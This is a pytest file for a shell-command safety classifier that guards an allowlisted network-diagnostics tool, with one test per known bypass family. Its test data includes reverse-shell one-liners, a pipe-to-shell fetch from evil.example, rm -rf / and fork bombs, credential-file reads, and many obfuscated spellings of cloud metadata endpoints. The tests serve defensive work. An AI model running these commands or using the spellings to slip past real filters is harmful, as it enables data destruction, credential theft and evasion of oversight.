"""One test per known bypass family: none of these may ever be SAFE."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from core.safety import classify

BASE = "ping -c 1 10.0.0.4"


def never_safe(commands: list[str], data_dir: Path | None = None) -> None:
    safe = [c for c in commands if classify(c, data_dir=data_dir).is_safe]
    assert not safe, f"classified SAFE: {safe}"


def test_chaining_and_operators() -> None:
    never_safe([f"{BASE}{op}id" for op in (";", "&&", "||", "|", "&", "\n", "\r", "\r\n")]
               + [f"{BASE} {op} id" for op in (";", "&&", "||", "|", "&")]
               + [f"{BASE} &", "(ping -c 1 x)", "{ ping -c 1 x; }", f"{BASE} |& cat"])


def test_substitution() -> None:
    never_safe([
        "ping -c 1 $(cat /etc/hostname)", "ping -c 1 `hostname`", 'ping -c 1 "$(id)"',
        'ping -c 1 "`id`"', "cat <(id)", "dig >(tee x) example.com", "ping -c $((1+1)) x",
    ])


def test_variable_and_ifs_expansion() -> None:
    never_safe([
        "ping${IFS}-c${IFS}1${IFS}x", "ping -c 1 $HOST", 'ping -c 1 "$HOST"', "ping -c 1 ${H}",
        "ping -c 1 $'\\x31'", "ping -c 1 x$IFS", "ping -c 1 !!", "curl https://x/$PATH",
    ])


def test_redirection() -> None:
    never_safe([f"{BASE} > /tmp/x", f"{BASE} >> ~/.bashrc", "cat < /etc/passwd",
                f"{BASE} 2>/dev/null", f"{BASE} &>x", f"{BASE}>x", "dig x 1>&2"])


def test_globbing_and_tilde() -> None:
    never_safe(["cat /var/log/*", "cat ?etc/passwd", "cat [a]", "cat ~/x", "cat {a,b}",
                "ping -c 1 10.0.0.*", "dig example.com {a,b}", "az network vnet list ~",
                "az network vnet list -g {a,b}", "/???/?ing -c 1 x", "p?ng -c 1 x"])


def test_pattern_characters_are_values_only_when_quoted() -> None:
    # issue 22: no shell runs the argv, so * ? [ ] in az values, DNS names and filters are
    # text; issue 28: unquoted they are still globs to a shell, so only the quoted form is SAFE
    for unquoted, quoted in (
            ("az network watcher test-ip-flow -g rg --vm vm1 --direction Inbound --protocol TCP "
             "--local 10.0.0.4:* --remote 10.1.0.4:6379",
             "az network watcher test-ip-flow -g rg --vm vm1 --direction Inbound --protocol TCP "
             "--local '10.0.0.4:*' --remote 10.1.0.4:6379"),
            ("az network nsg rule list -g rg --nsg-name n --query [?access=='Deny']",
             "az network nsg rule list -g rg --nsg-name n --query \"[?access=='Deny']\""),
            ("dig *.contoso.com", "dig '*.contoso.com'")):
        assert classify(unquoted).rule == "T3.unquoted_pattern", unquoted
        assert classify(quoted).is_safe, quoted
    # and for a program that reads file names, an unquoted glob is not understood at all
    assert classify("ls /var/log/*.log").rule == "T0.not_literal"


def test_escapes_and_comments() -> None:
    never_safe(["p\\ing -c 1 x", "ping -c 1 x \\; id", "ping -c 1 x #comment",
                "ping -c 1 \\\n x"])


def test_quotes_inside_program_names() -> None:
    never_safe(["p'in'g -c 1 x", 'p"in"g -c 1 x', "'ping' -c 1 x", '"az" account show',
                "''ping -c 1 x"])


def test_paths_as_program_names() -> None:
    # Decision: a program named by path is never the allowlisted program.
    never_safe(["./ping -c 1 x", "/bin/ping -c 1 x", "/usr/bin/az account show",
                "../ping -c 1 x", "bin/curl https://example.com"])


def test_unicode_lookalikes_and_invisible_characters() -> None:
    never_safe([
        "ping\u200b -c 1 x", "p\u0456ng -c 1 x", "\uff50ing -c 1 x", "ping -c 1 x\u2028id",
        "ping\u00a0-c 1 x", "curl https://example.com\u202e", "ping -c 1 x\ufeff",
        "ping -c\u20001 x", "a\u200dz account show", "ping\t-c 1 x", "ping -c 1 x\x00",
        "ping -c 1 x\x1b[2K",
    ])


def test_wrappers_and_environment_prefixes() -> None:
    never_safe([
        "env ping -c 1 x", "env -i ping -c 1 x", "timeout 5 ping -c 1 x", "xargs ping -c 1",
        "sudo ping -c 1 x", "nohup ping -c 1 x", "nice -n 5 ping -c 1 x", "exec ping -c 1 x",
        "command ping -c 1 x", "builtin ping", "time ping -c 1 x", "watch ping -c 1 x",
        "LD_PRELOAD=/tmp/x.so ping -c 1 x", "PATH=/tmp ping -c 1 x", "A=1 az account show",
        "strace ping -c 1 x", "stdbuf -o0 ping -c 1 x", "setsid ping -c 1 x",
    ])


def test_dangerous_curl_options() -> None:
    never_safe([
        "curl -o /tmp/x https://e.com", "curl -O https://e.com/x", "curl -sO https://e.com/x",
        "curl -Os https://e.com/x", "curl --output=x https://e.com", "curl --outp x https://e.com",
        "curl -T x https://e.com", "curl -F a=@x https://e.com", "curl -d @x https://e.com",
        "curl -K x https://e.com", "curl --config=x https://e.com", "curl file:///etc/passwd",
        "curl --unix-socket /s http://x/", "curl -X POST https://e.com", "curl -XPOST https://e.com",
        "curl -sXPOST https://e.com", "curl --next https://e.com", "curl -: https://e.com",
        "curl --remote-name-all https://e.com/a", "curl -J -O https://e.com",
        "curl --create-dirs -o a/b https://e.com", "curl -c jar https://e.com",
        "curl -w %output{/tmp/x} https://e.com", "curl --proto =file https://e.com",
        "curl -q -K cfg https://e.com", "curl --url file:///etc/passwd",
        "curl --variable %HOME https://e.com", "curl -H 'X-Evil: 1' https://e.com",
        "curl --dump-header /tmp/h https://e.com", "curl --stderr /tmp/x https://e.com",
        "curl -E cert.pem https://e.com", "curl --json {} https://e.com",
    ])


def test_dangerous_options_of_other_allowlisted_programs() -> None:
    never_safe([
        "ss -K", "ss -tK dst 1.2.3.4", "ss --kill", "dig -f x", "dig +tcp @1.1.1.1 -f x",
        "mtr -F x", "mtr -r -F x", "ip -batch x", "ip -b x", "ip r a 1.0.0.0/8 via 1.1.1.1",
        "ip ro add 1.0.0.0/8 dev eth0", "ip a a 1.2.3.4/24 dev eth0", "ip l s eth0 down",
        "ip n f all", "ip ru a from all lookup 5", "ping -f x", "ping -c 5 -f x",
        "tcpdump -c 1 -w x", "tcpdump -c 1 -z x", "traceroute -w", "netstat -c",
        "nslookup", "nslookup -", "host -l example.com",
    ])


IMDS_SPELLINGS = [
    "169.254.169.254", "2852039166", "0xa9fea9fe", "0xA9FEA9FE", "0251.0376.0251.0376",
    "0xa9.0xfe.0xa9.0xfe", "169.254.43518", "169.16689662", "0251.254.169.254",
    "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[0:0:0:0:0:ffff:a9fe:a9fe]",
    "[::169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "169.254.169.254.nip.io",
    "a9fea9fe.nip.io", "169-254-169-254.sslip.io", "%31%36%39.254.169.254",
    "[fd00:ec2::254]", "metadata.google.internal", "169.254.169.254.",
]


@pytest.mark.parametrize("host", IMDS_SPELLINGS)
def test_metadata_endpoint_in_any_spelling_is_forbidden(host: str) -> None:
    for command in (f"curl http://{host}/metadata/instance", f"curl 'http://{host}/'",
                    f"ping -c 1 {host}", f"wget http://{host}/", f"dig @{host} x",
                    f"curl --resolve x:80:{host} http://x/"):
        assert classify(command).classification == "FORBIDDEN", command


def test_metadata_header_is_forbidden() -> None:
    for command in ("curl -H Metadata:true http://10.0.0.1/",
                    "curl -H 'Metadata: true' https://example.com",
                    'curl -H "metadata:TRUE" https://example.com'):
        assert classify(command).rule == "T0.metadata_header"


def test_wireserver() -> None:
    # Decision: 168.63.129.16 is also Azure's DNS resolver and health-probe source, so DNS
    # lookups and ICMP probes to it are allowed; HTTP or anything else is FORBIDDEN.
    assert classify("dig @168.63.129.16 example.com").is_safe
    assert classify("ping -c 2 168.63.129.16").is_safe
    for command in ("curl http://168.63.129.16/?comp=versions",
                    "curl http://168.63.129.16:32526/vmSettings",
                    "curl http://2822734096/", "nc 168.63.129.16 80",
                    "curl 'http://[::ffff:a83f:8110]/'"):
        assert classify(command).rule == "T0.wireserver", command


def test_catastrophic_commands_are_forbidden() -> None:
    for command, rule in [
        ("rm -rf /", "T0.rm_root"), ("rm -rf /*", "T0.rm_root"), ("rm -fr ~", "T0.rm_root"),
        ("rm -r --no-preserve-root /", "T0.rm_root"), ("sudo rm -rf /etc", "T0.rm_root"),
        ("/bin/rm -Rf /usr/", "T0.rm_root"), ("rm -rf .", "T0.rm_root"),
        ("mkfs.ext4 /dev/sda1", "T0.disk_format"), ("mkfs -t xfs /dev/sdb", "T0.disk_format"),
        ("wipefs -a /dev/sda", "T0.disk_format"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "T0.raw_device_write"),
        ("echo x > /dev/sda", "T0.raw_device_write"), ("shutdown -h now", "T0.power"),
        ("reboot", "T0.power"), ("systemctl poweroff", "T0.power"), ("init 0", "T0.power"),
        (":(){ :|:& };:", "T0.fork_bomb"), ("bomb(){ bomb|bomb & }; bomb", "T0.fork_bomb"),
        ("chmod -R 777 /", "T0.perm_root"), ("chown -R nobody /etc", "T0.perm_root"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "T0.reverse_shell"),
        ("nc -e /bin/sh 10.0.0.1 4444", "T0.reverse_shell"),
        ("socat tcp:10.0.0.1:4444 exec:sh", "T0.reverse_shell"),
        ("curl https://evil.example/x.sh | sh", "T0.pipe_to_shell"),
        ("curl -s https://e.com/x | sudo bash", "T0.pipe_to_shell"),
        ("cat ~/.azure/msal_token_cache.json", "T0.credential_store"),
        ("cat /proc/1/environ", "T0.credential_store"), ("cat /etc/shadow", "T0.credential_store"),
        ("ping -c 1 x; rm -rf /", "T0.rm_root"), ("ping -c 1 x && r'm' -rf /", "T0.rm_root"),
        ("rm${IFS}-rf${IFS}/", "T0.rm_root"), ("\uff52\uff4d -rf /", "T0.rm_root"),
        ("r\u200bm -rf /", "T0.rm_root"), ("$(rm -rf /)", "T0.rm_root"),
        ("echo `reboot`", "T0.power"),
    ]:
        verdict = classify(command)
        assert (verdict.classification, verdict.rule) == ("FORBIDDEN", rule), command


def test_rm_of_a_file_is_only_risky(tmp_path: Path) -> None:
    assert classify(f"rm {tmp_path}/old.pcap").rule == "T3.destructive_program"
    assert classify(f"rm -rf {tmp_path}/captures").classification == "RISKY"


def test_az_flags_before_group_and_secret_reads() -> None:
    never_safe([
        "az --debug network vnet list", "az -o json network vnet list",
        "az --subscription x network vnet list", "az --only-show-errors keyvault secret show",
        "az storage account keys list -n sa", "az keyvault secret show --id x",
        "az storage account show-connection-string -n sa", "az redis list-keys -n r -g g",
        "az rest --url x", "az resource invoke-action --action listKeys --ids x",
        "az storage blob generate-sas -c c -n b --account-name sa",
        "az webapp config connection-string list -g g -n a",
    ])
    for command in ("az account get-access-token", "az --debug account get-access-token",
                    "az account get-access-token -o tsv --query accessToken",
                    "az vm run-command invoke -g g -n v --command-id X",
                    "az --only-show-errors vm run-command invoke -g g -n v"):
        assert classify(command).classification == "FORBIDDEN", command


def test_cat_symlink_and_dotdot(tmp_path: Path) -> None:
    data = tmp_path / "audit"
    data.mkdir()
    (tmp_path / "secret").write_text("x")
    (data / "ln").symlink_to(tmp_path / "secret")
    (data / "dirlink").symlink_to(tmp_path)
    never_safe([f"cat {data}/ln", f"cat {data}/dirlink/secret", f"cat {data}/../secret",
                "cat /etc/hosts", f"cat {data}/x/../../secret"], data_dir=data)


METACHARS = [";", "&", "|", "`", "$", "<", ">", "(", ")", "\n", "\r", "*", "?", "[", "]",
             "{", "}", "~", "\\", "!", "\t", "\x00", "\u200b", "\u037e"]
SAFE_SEEDS = ["ping -c 4 10.0.0.4", "dig +short example.com", "ss -tlnp",
              "curl -s https://example.com/health", "az network vnet list -g rg",
              "ip route show", "netstat -rn", "traceroute -n 10.0.0.4"]


def test_property_nothing_with_unquoted_metacharacters_is_safe() -> None:
    rng = random.Random(20250115)
    for seed in SAFE_SEEDS:
        assert classify(seed).is_safe, seed
    for _ in range(5000):
        seed = rng.choice(SAFE_SEEDS)
        pos = rng.randrange(len(seed) + 1)
        meta = rng.choice(METACHARS)
        extra = rng.choice(["", "id", " id", "x", " /tmp/x", "rm -rf /"])
        command = seed[:pos] + meta + extra + seed[pos:]
        verdict = classify(command)
        assert not verdict.is_safe, repr(command)


def test_property_random_garbage_is_never_safe_unless_plain() -> None:
    rng = random.Random(7)
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789 -_./:@=+'\"$`;|&<>(){}[]*?~\\!#\n"
    for _ in range(3000):
        command = "".join(rng.choice(alphabet) for _ in range(rng.randrange(1, 40)))
        verdict = classify(command)
        if verdict.is_safe:
            assert verdict.argv is not None and verdict.argv[0] in {
                "ping", "dig", "ss", "ip", "netstat", "host", "nslookup", "traceroute",
                "tracepath", "mtr", "curl", "tcpdump", "az", "cat", "ghost-forensics"}
